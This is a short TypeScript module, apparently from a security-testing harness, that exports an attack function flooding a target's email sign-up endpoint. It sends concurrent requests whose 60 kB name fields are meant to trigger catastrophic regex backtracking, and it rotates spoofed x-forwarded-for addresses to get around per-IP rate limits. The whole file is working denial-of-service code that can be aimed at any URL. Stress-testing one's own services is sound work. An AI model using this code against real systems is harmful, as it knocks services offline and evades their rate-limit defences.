import { flood, post } from './asking.ts'
import type { Attack, AttackFindings } from './attack.ts'

const CONCURRENCY = 12
const ADDRESSES = 400
/** A pattern with two quantifiers backtracks on these for seconds. Both are 60 kB: Arabic letters take two bytes. */
const NAMES = ['a'.repeat(60_000), 'م'.repeat(30_000)]

export async function attackNames({ url, seconds }: Attack): Promise<AttackFindings> {
  const answers = await flood({ seconds, atOnce: CONCURRENCY }, (n) => {
    const data = {
      full_name: NAMES[n % NAMES.length],
      gender: 'Female',
      date_of_birth: '1995-04-12',
      country_of_residence: 'NG',
      agreed_to_terms: true,
    }
    const body = { email: `long-${n}@bench.test`, password: 'Correct-horse-9', data }
    const address = `10.8.${Math.floor((n % ADDRESSES) / 200)}.${n % 200}`
    return post(`${url}/auth/v1/sign-up/email`, { 'x-forwarded-for': address }, body)
  })
  return { answers, counts: {} }
}
